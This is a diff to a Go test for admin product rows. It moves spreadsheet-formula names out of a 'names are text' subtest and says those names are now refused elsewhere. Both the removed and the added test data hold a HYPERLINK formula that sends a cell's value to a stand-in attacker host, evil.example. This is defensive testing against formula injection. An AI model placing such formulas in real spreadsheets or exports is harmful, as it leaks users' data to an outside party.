@@ -418,13 +418,12 @@ func TestAdminProductRows(t *testing.T) {
 		}
 	})
 
+	// Names a spreadsheet would run as formulas are refused
+	// (TestFormulaTextIsRefused); everything else is text.
 	t.Run("names are text, stored as sent", func(t *testing.T) {
 		names := []string{
-			`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
-			`=1+2`,
-			`+81-3-1234-5678`,
-			`-2+3`,
-			`@SUM(A1:A9)`,
+			`Tint =HYPERLINK("http://evil.example/?"&A1,"Click")`,
+			`1+2=3`,
 			`'quoted`,
 			`"Best", cheap; <b>bold</b> & more`,
 			`日本の茶碗 🍵`,
